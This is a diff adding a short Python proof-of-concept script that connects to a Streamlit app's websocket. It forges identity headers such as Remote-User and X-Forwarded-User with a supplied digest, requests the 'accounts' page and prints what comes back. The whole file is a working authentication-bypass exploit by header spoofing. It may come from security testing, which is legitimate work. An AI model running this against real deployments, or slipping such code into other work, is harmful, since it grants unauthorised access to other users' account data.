@@ -1,0 +1,37 @@
+"""`handshake.py ADDRESS DIGEST`: open Streamlit's websocket with forged headers and print what it sends.
+
+No browser lets a page set headers of a websocket; a program of one's own does.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import sys
+
+from streamlit.proto.BackMsg_pb2 import BackMsg
+from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
+from websockets.asyncio.client import connect
+from websockets.typing import Subprotocol
+
+
+async def main(address: str, digest: str) -> None:
+    """Ask for the page of accounts; print every message until the run is over."""
+    place = address.replace("http://", "ws://") + "/_stcore/stream"
+    names = ("X-Visitor-Session", "x_visitor_session", "Remote-User", "X-Forwarded-User")
+    forged = [(name, digest) for name in names]
+    streamlit = [Subprotocol("streamlit")]
+    async with connect(place, additional_headers=forged, subprotocols=streamlit, origin=None) as socket:
+        asked = BackMsg()
+        asked.rerun_script.page_name = "accounts"
+        await socket.send(asked.SerializeToString())
+        async for data in socket:
+            message = ForwardMsg()
+            message.ParseFromString(data if isinstance(data, bytes) else data.encode())
+            print(message.delta.new_element.html.body)
+            if message.WhichOneof("type") == "script_finished":
+                return
+
+
+if __name__ == "__main__":
+    sys.stdout.reconfigure(encoding="utf-8")  # type: ignore[union-attr]
+    asyncio.run(asyncio.wait_for(main(sys.argv[1], sys.argv[2]), 50))
